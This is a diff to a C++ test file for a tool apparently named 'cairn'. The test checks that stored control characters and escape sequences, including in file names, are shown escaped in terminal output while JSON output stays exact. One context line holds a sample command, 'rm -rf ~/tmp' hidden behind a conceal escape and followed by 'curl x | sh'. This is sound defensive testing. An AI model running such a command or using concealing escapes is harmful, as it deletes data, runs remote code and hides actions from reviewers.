@@ -89,6 +89,22 @@ TEST(Row39, StoredControlCharactersReachTheTerminalEscapedAndJsonStaysExact) {
   auto approvals = cairn({"approve", "ls"});
   EXPECT_NE(approvals.output.find("rm -rf ~/tmp\\x1b[8m && curl x | sh"), std::string::npos)
       << "the whole action is visible: " << approvals.output;
+  // File names: a name with a screen-clearing escape and a byte that is not UTF-8.
+  TempDir tree;
+  const std::string name = "a\x1b[2Jb\xff.txt";
+  {
+    FILE* f = std::fopen((tree / name).c_str(), "w");
+    ASSERT_NE(f, nullptr);
+    std::fputs("hello\n", f);
+    std::fclose(f);
+  }
+  auto track = cairn({"track", tree.path()});
+  EXPECT_EQ(track.status, 0) << track.output;
+  auto files = cairn({"files"});
+  EXPECT_EQ(files.status, 0) << files.output;
+  EXPECT_EQ(files.output.find('\x1b'), std::string::npos) << "printed ESC: " << files.output;
+  EXPECT_EQ(files.output.find('\xff'), std::string::npos) << "printed a raw \\xff byte";
+  EXPECT_NE(files.output.find("a\\x1b[2Jb\\xff.txt"), std::string::npos) << files.output;
   // --json is for programs: the exact stored text.
   auto json = cairn({"--json", "task", "show", id});
   ASSERT_EQ(json.status, 0) << json.output;
